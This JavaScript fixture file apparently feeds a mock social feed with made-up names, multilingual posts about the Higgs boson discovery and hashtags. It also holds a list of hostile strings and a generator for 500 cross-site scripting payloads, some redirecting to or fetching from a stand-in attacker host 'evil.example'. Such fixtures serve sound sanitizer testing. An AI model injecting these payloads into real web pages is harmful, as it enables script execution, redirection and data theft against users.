// SPDX-License-Identifier: MIT
// Words of the stand-in's made-up people: they talk about a discovery in physics.
export const firstNames = ('Ada Amara Anjali Bruno Chloe Dario Elif Emeka Farah Felix Giulia Hana Hugo Ines Ivan Jonas Kaori Kofi Lena Lucas ' +
    'Maja Marisol Mateo Mei Nadia Nils Noor Olga Omar Paula Priya Rafael Rosa Sana Sofia Tariq Tomas Uma Vera Wanjiru Yuki Zoe').split(' ');
export const lastNames = ('Abe Almeida Berg Castillo Costa Demir Diaz Eriksen Ferreira Fischer Garcia Haddad Ito Jansen Kaya Keller Kimani Kowalski ' +
    'Lopez Moreau Mwangi Nakamura Novak Okafor Olsen Park Patel Pereira Petrov Ramos Rao Rossi Sato Silva Singh Tan Torres Weber Yilmaz').split(' ');
export const texts = [
    ['en', 'Five sigma. Forty-eight years between the pencil and the particle. What a morning to be alive.'],
    ['en', 'The whole lecture hall stood up. I have never heard a bar chart get applause before.'],
    ['en', 'A short thread on what was found, what was not, and why "God particle" makes physicists sigh &amp; roll their eyes.'],
    ['es', 'Lo han encontrado. Casi cincuenta años después, la pieza que faltaba. ¡Enhorabuena a todo el equipo!'],
    ['en', 'If mass &gt; 125 GeV had been the answer we would all be writing very different papers tonight.'],
    ['pt', 'Acordei às quatro da manhã para ver o seminário e valeu cada minuto de sono perdido.'],
    ['fr', 'Deux expériences, deux équipes qui ne se parlaient pas, un seul résultat. Chapeau !'],
    ['en', 'Can somebody explain this to me as if I were five? Wrong answers welcome too.'],
    ['it', 'Oggi al bar si parla di bosoni. È già una bella notizia.'],
    ['de', 'Im Livestream klatschen Menschen zu Histogrammen. Schönster Tag des Jahres.'],
    ['en', 'Comic Sans on the slides that changed physics. I am not even angry, I am impressed.'],
    ['tr', 'Yarım yüzyıllık bir tahmin bugün doğrulandı. Bilim sabır işidir.'],
    ['ja', '歴史的な発表をライブで見ています。鳥肌が立ちました。'],
    ['id', 'Nonton seminar fisika jam dua siang sambil makan nasi goreng. Luar biasa!'],
    ['en', 'Billions spent to find something nobody can see, while the roof of our school still leaks.'],
    ['en', 'My grandmother taught physics in a village without power. She called me in tears. So happy.'],
    ['es', 'Muy bonito todo, pero ¿y para qué sirve? Pregunto en serio.'],
    ['en', 'Careful with the headlines: it is "a new boson consistent with". The careful words are the good part.'],
    ['fr', 'Encore un titre mensonger sur "la particule de Dieu". Lamentable.'],
    ['en', 'Peter is wiping his eyes in the second row and now so am I.'],
    ['pt', 'Alguém me explica o que muda na minha vida a partir de hoje? Sinceramente.'],
    ['en', 'Signal &lt;-&gt; background, plotted by two teams, unblinded two weeks ago. This is how it is done.'],
    ['en', 'Live from the overflow room of the overflow room. People brought sleeping bags!'],
    ['ko', '오늘은 교과서가 바뀌는 날입니다.'],
    ['en', 'The server is down, the mirror is down, the mirror of the mirror is slow. Science broke the web again.'],
    ['ar', 'اكتشاف عظيم ينتظره العلماء منذ نصف قرن.'],
    ['nl', 'Vijf sigma! Vanavond taart op het lab.'],
    ['en', 'Unpopular view: the neutrino people deserve half of this party.'],
    ['ru', 'Смотрим трансляцию всей кафедрой. Чай закончился, радость нет.'],
    ['en', 'I waited thirty years to delete one slide from my lecture. Deleted it just now.'],
];
export const hostile = [
    '<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '&lt;svg onload=alert(3)&gt;', "javascript:alert('4')",
    '\u202Egnp.exe\u202C', '<style>*{display:none}</style>', '{{constructor.constructor("alert(5)")()}}', '</title><script>alert(6)</script>',
];

// Every way in that the stand-in's people know, 500 of them: element, attribute, url,
// style, template and entity, each wrapped in another.
const marks = ['alert(1)', 'prompt(1)', 'location=\'//evil.example/\'', 'fetch(\'https://evil.example/\')', 'document.body.remove()'];
const shapes = [
    (js) => `<img src=x onerror=${js}>`, (js) => `<svg/onload=${js}>`, (js) => `<script>${js}</script>`, (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<a href="javascript:${js}">a</a>`,
    (js) => `javascript:${js}`, (js) => `" onmouseover="${js}`, (js) => `' autofocus onfocus='${js}`, (js) => `<style>@import "https://evil.example/${js}";</style>`, (js) => `<base href="https://evil.example/">${js}`,
    (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`, (js) => `<object data="data:text/html,<script>${js}</script>">`, (js) => `{{constructor.constructor("${js}")()}}`, (js) => `\${${js}}`, (js) => `&lt;img src=x onerror=${js}&gt;`,
    (js) => `<details open ontoggle=${js}>`, (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`, (js) => `<link rel=stylesheet href=https://evil.example/${js}>`, (js) => `\u202E${js}\u202C<b>`, (js) => `data:text/html;base64,${js}`,
];
const wraps = [(s) => s, (s) => `">${s}`, (s) => `</title></textarea></style>${s}`, (s) => `\u2028${s}\u0000`, (s) => s.repeat(3)];
export const payloads = shapes.flatMap((shape) => marks.flatMap((mark) => wraps.map((wrap) => wrap(shape(mark)))));
export const tags = ['higgs', 'cern', 'science', 'physics', 'boson', 'ichep2012', 'fünfsigma', '物理', 'godparticle', 'comicsans'];
